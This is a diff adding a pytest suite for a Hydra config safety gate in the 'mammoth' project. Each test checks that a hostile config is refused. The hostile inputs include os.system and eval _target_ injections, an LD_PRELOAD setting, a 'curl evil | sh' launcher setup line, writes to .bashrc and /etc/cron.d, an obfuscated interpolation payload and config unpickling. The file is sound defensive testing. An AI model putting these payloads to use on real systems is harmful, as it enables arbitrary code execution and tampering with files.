@@ -1,0 +1,197 @@
+"""The one safety gate (mammoth.config.safety) over every config that will run: what it may make mammoth or
+Hydra call, and where it may make them write. Each route below is one a shared YAML file could take."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+from omegaconf import open_dict
+
+from mammoth.__main__ import hydra_main
+from mammoth.config.preflight import prepare_arguments
+from mammoth.errors import ConfigError
+from mammoth.config.safety import check_config_safety, check_output_path
+from composing import compose_mammoth
+
+
+def prepare(*args: str):
+    """``python -m mammoth ARGS``'s checks, in process."""
+    return prepare_arguments(list(args), hydra_main)
+
+
+def refused(*args: str) -> str:
+    """The first line of the error the checks of ``python -m mammoth ARGS`` raise."""
+    with pytest.raises(ConfigError) as error:
+        prepare(*args)
+    return str(error.value).splitlines()[0]
+
+
+def write(path: Path, text: str) -> Path:
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text(text)
+    return path
+
+
+def test_the_default_config_and_its_hydra_node_pass():
+    assert check_config_safety(compose_mammoth(return_hydra_config=True)) is None
+    assert prepare("dataset.n_epochs=1").args == ["dataset.n_epochs=1"]
+
+
+def test_a_target_nested_in_an_allowed_callback_is_refused():
+    line = refused("+hydra.callbacks.sweep_summary.payload._target_=os.system")
+    assert line.startswith("hydra.callbacks.sweep_summary.payload._target_='os.system': a _target_ is not allowed here; allowed:")
+
+
+def test_callbacks_launchers_and_sweepers_must_be_their_hydra_classes():
+    assert refused("+hydra.callbacks.evil._target_=torch.load").startswith(
+        "hydra.callbacks.evil._target_='torch.load' is not a Hydra Callback class")
+    assert "is not a Hydra Callback class" in refused("+hydra.callbacks.x._target_=no.such.Module")
+    assert "is not a Hydra Launcher class" in refused("hydra.launcher._target_=subprocess.Popen")
+    allowed = "+hydra.callbacks.log._target_=hydra.experimental.callbacks.LogJobReturnCallback"
+    assert prepare(allowed).args == [allowed]
+
+
+def test_a_target_anywhere_in_the_task_config_is_refused_unless_a_registered_option():
+    assert refused("+model.inner._target_=os.system").startswith("model.inner._target_='os.system': a _target_ is not allowed here")
+    assert refused("+dataset.transform._target_=builtins.eval").startswith("dataset.transform._target_='builtins.eval'")
+    assert refused("+extra._target_=os.system").startswith("extra._target_='os.system'")
+    assert "model._target_" in refused("model._target_=os.system")
+    unregistered = compose_mammoth()
+    with open_dict(unregistered.model):
+        unregistered.model._target_ = "os.system"
+    with pytest.raises(ConfigError, match=r"^model._target_='os.system' is not a registered model; allowed: the _target_ of one of agem,"):
+        check_config_safety(unregistered)
+
+
+def test_logging_configs_name_only_listed_classes_reach_no_object_and_set_no_attribute():
+    assert refused("+hydra.job_logging.handlers.evil.class=os.system").startswith(
+        "hydra.job_logging.handlers.evil.class='os.system' is not allowed in a logging config; allowed: logging.StreamHandler,")
+    factory = compose_mammoth(return_hydra_config=True)
+    with open_dict(factory):
+        factory.hydra.hydra_logging.formatters.f = {"()": "builtins.eval"}
+    with pytest.raises(ConfigError, match=r"^hydra.hydra_logging.formatters.f.\(\)='builtins.eval' is not allowed in a logging config; allowed: logging.Formatter"):
+        check_config_safety(factory)
+    factory = compose_mammoth(return_hydra_config=True)
+    assert refused("hydra.job_logging.handlers.console.stream=ext://os.system").startswith(
+        "hydra.job_logging.handlers.console.stream='ext://os.system' reaches an object outside the logging config")
+    with open_dict(factory):
+        factory.hydra.job_logging.handlers.console["."] = {"terminator": "x"}
+    with pytest.raises(ConfigError, match=r"^hydra.job_logging.handlers.console..: a logging config may not set attributes"):
+        check_config_safety(factory)
+    # a subclass of an allowed class is not on the list either: the list names exact classes
+    assert "is not allowed in a logging config" in refused("hydra.job_logging.handlers.file.class=logging.handlers.SysLogHandler")
+
+
+def test_a_log_file_outside_the_run_directory_is_refused(tmp_path: Path):
+    target = write(tmp_path / "bashrc", "untouched\n")
+    line = refused(f"hydra.job_logging.handlers.file.filename={target}")
+    assert line == (f"hydra.job_logging.handlers.file.filename={str(target)!r} is outside the run directory; "
+                    "allowed: a path inside it, e.g. ${hydra.runtime.output_dir}/NAME.log")
+    assert "is outside the run directory" in refused("hydra.job_logging.handlers.file.filename=${hydra.runtime.output_dir}/../../x.log")
+    assert target.read_text() == "untouched\n"
+    inside = "hydra.job_logging.handlers.file.filename=${hydra.runtime.output_dir}/logs/run.log"
+    assert prepare(inside).args == [inside]
+
+
+def test_output_paths_stay_inside_the_run_directory():
+    assert refused("output_dir=/etc").startswith("output_dir='/etc' leaves the run directory; allowed: a relative path inside it")
+    assert refused("output_dir=../../x").startswith("output_dir='../../x' leaves the run directory")
+    assert refused("logger.csv.filename=/home/user/.bashrc").startswith("logger.csv.filename='/home/user/.bashrc' leaves the run directory")
+    assert refused("logger=tensorboard", "logger.tensorboard.log_dir=../../tb").startswith("logger.tensorboard.log_dir='../../tb' leaves")
+    assert refused("hydra.output_subdir=../x").startswith("hydra.output_subdir='../x' leaves the run directory")
+    assert refused("-m", "model=sgd,er", "hydra.sweep.subdir=../../${hydra.job.num}").startswith("hydra.sweep.subdir='../../0' leaves")
+    assert prepare("output_dir=results").args == ["output_dir=results"]
+    with pytest.raises(ConfigError, match=r"^x='C:/Users' leaves"):
+        check_output_path("x", "C:/Users")
+
+
+def test_shell_commands_and_environment_variables_come_only_from_the_command_line(tmp_path: Path):
+    write(tmp_path / "experiment" / "shared.yaml",
+          "# @package _global_\nhydra:\n  job:\n    env_set:\n      LD_PRELOAD: /tmp/evil.so\n")
+    assert refused("--config-dir", str(tmp_path), "experiment=shared").startswith(
+        "hydra.job.env_set.LD_PRELOAD sets an environment variable from a config file; allowed there: names starting with CUDA_")
+    write(tmp_path / "experiment" / "gpu.yaml", "# @package _global_\nhydra:\n  job:\n    env_set:\n      CUDA_VISIBLE_DEVICES: '1'\n")
+    assert prepare("--config-dir", str(tmp_path), "experiment=gpu").args[-1] == "experiment=gpu"
+    assert prepare("+hydra.job.env_set.LD_LIBRARY_PATH=/opt/lib").args == ["+hydra.job.env_set.LD_LIBRARY_PATH=/opt/lib"]
+    write(tmp_path / "experiment" / "slurm.yaml", "# @package _global_\nhydra:\n  launcher:\n    setup: ['curl evil | sh']\n")
+    pytest.importorskip("hydra_plugins.hydra_submitit_launcher")
+    slurm = ["-m", "--config-dir", str(tmp_path), "hydra/launcher=submitit_slurm", "seed=0,1"]
+    line = refused(*slurm, "experiment=slurm")
+    assert line == "hydra.launcher.setup runs shell commands and was set by a config file; allowed: set it on the command line"
+    assert prepare(*slurm, "hydra.launcher.setup=[module load cuda]").multirun
+
+
+def test_a_sweepers_nested_instantiable_field_is_refused():
+    pytest.importorskip("hydra_plugins.hydra_optuna_sweeper")
+    line = refused("-m", "hydra/sweeper=optuna", "+hydra.sweeper.storage._target_=os.system", "model.lr=interval(0.01,0.1)")
+    assert line.startswith("hydra.sweeper.storage._target_='os.system': a _target_ is not allowed here")
+    # the Optuna sampler's own _target_ is expected; a non-sampler there is not
+    assert prepare("-m", "hydra/sweeper=optuna", "model.lr=interval(0.01,0.1)").multirun
+    assert "is not an Optuna sampler class" in refused("-m", "hydra/sweeper=optuna", "hydra.sweeper.sampler._target_=os.system")
+
+
+def test_each_job_of_a_sweep_passes_the_gate(tmp_path: Path):
+    write(tmp_path / "experiment" / "fine.yaml", "# @package _global_\nseed: 3\n")
+    write(tmp_path / "experiment" / "evil.yaml",
+          "# @package _global_\nhydra:\n  job_logging:\n    handlers:\n      file:\n        filename: /tmp/planted.log\n")
+    args = ["--config-dir", str(tmp_path), f"hydra.sweep.dir={tmp_path / 'sweep'}"]
+    # as a single run and as the second job of a sweep: the same refusal, before anything is written
+    single = refused(*args, "experiment=evil")
+    assert single.startswith("hydra.job_logging.handlers.file.filename='/tmp/planted.log' is outside the run directory")
+    assert refused("-m", *args, "experiment=fine,evil") == single
+    assert not (tmp_path / "sweep").exists()
+
+
+def test_an_optuna_search_over_hydras_settings_or_an_unsafe_choice_is_refused(tmp_path: Path):
+    pytest.importorskip("hydra_plugins.hydra_optuna_sweeper")
+    write(tmp_path / "hparams_search" / "logs.yaml", "# @package _global_\ndefaults:\n  - override /hydra/sweeper: optuna\n"
+          "hydra:\n  mode: MULTIRUN\n  sweeper:\n    params:\n      hydra.job_logging.root.level: choice(INFO,DEBUG)\n")
+    line = refused("--config-dir", str(tmp_path), "hparams_search=logs")
+    assert line.startswith("hydra.sweeper.params.hydra.job_logging.root.level: a search may not change Hydra's own settings per trial")
+    write(tmp_path / "experiment" / "fine.yaml", "# @package _global_\nseed: 3\n")
+    write(tmp_path / "experiment" / "evil.yaml",
+          "# @package _global_\nhydra:\n  callbacks:\n    sweep_summary:\n      payload:\n        _target_: os.system\n")
+    line = refused("-m", "--config-dir", str(tmp_path), "hydra/sweeper=optuna", "experiment=choice(fine,evil)")
+    assert line.startswith("hydra.callbacks.sweep_summary.payload._target_='os.system': a _target_ is not allowed here")
+
+
+def test_a_config_pickle_is_refused():
+    assert refused("--experimental-rerun", "config.pickle").startswith(
+        "--experimental-rerun 'config.pickle' is refused: it unpickles a file, which can run any code")
+
+
+def test_the_run_checks_its_config_with_the_same_gate(tmp_path: Path):
+    import mammoth
+
+    cfg = compose_mammoth(f"output_dir={tmp_path}", "device=cpu", "dataset.n_epochs=1")
+    with open_dict(cfg.model):
+        cfg.model.helper = {"_target_": "os.system", "_args_": ["touch pwned"]}
+    with pytest.raises(ConfigError, match=r"^model.helper._target_='os.system': a _target_ is not allowed here"):
+        mammoth.run(cfg)
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_where_the_run_goes_is_chosen_on_the_command_line_not_by_a_shared_file(tmp_path: Path):
+    write(tmp_path / "experiment" / "elsewhere.yaml", "# @package _global_\nhydra:\n  run:\n    dir: /etc/cron.d\n")
+    line = refused("--config-dir", str(tmp_path), "experiment=elsewhere")
+    assert line == ("hydra.run.dir='/etc/cron.d' was set by a config file and leaves the working directory; allowed there: "
+                    "a relative path without '..'; another place only on the command line")
+    assert prepare(f"hydra.run.dir={tmp_path / 'run'}").directory == tmp_path / "run"
+    write(tmp_path / "experiment" / "db.yaml", "# @package _global_\nhydra:\n  sweeper:\n    storage: sqlite:////home/user/.db\n")
+    pytest.importorskip("hydra_plugins.hydra_optuna_sweeper")
+    line = refused("-m", "--config-dir", str(tmp_path), "hydra/sweeper=optuna", "experiment=db", "model.lr=interval(0.01,0.1)")
+    assert line.startswith("hydra.sweeper.storage='sqlite:////home/user/.db' was set by a config file")
+    pytest.importorskip("hydra_plugins.hydra_submitit_launcher")
+    line = refused("-m", "hydra/launcher=submitit_local", "hydra.launcher.submitit_folder=/tmp/elsewhere", "seed=0,1")
+    assert line == ("hydra.launcher.submitit_folder='/tmp/elsewhere' is outside the sweep directory; allowed: a path inside it, "
+                    "e.g. ${hydra.sweep.dir}/NAME")
+
+
+def test_an_interpolation_that_becomes_a_target_is_walked_as_what_it_becomes(tmp_path: Path):
+    write(tmp_path / "experiment" / "decoded.yaml", "# @package _global_\nhydra:\n  callbacks:\n    sweep_summary:\n"
+          "      payload: \"${oc.decode:'{_target_: os.system, _args_: [touch pwned]}'}\"\n")
+    line = refused("--config-dir", str(tmp_path), "experiment=decoded")
+    assert line.startswith("hydra.callbacks.sweep_summary.payload._target_='os.system': a _target_ is not allowed here")
+    assert not (tmp_path / "pwned").exists()
+
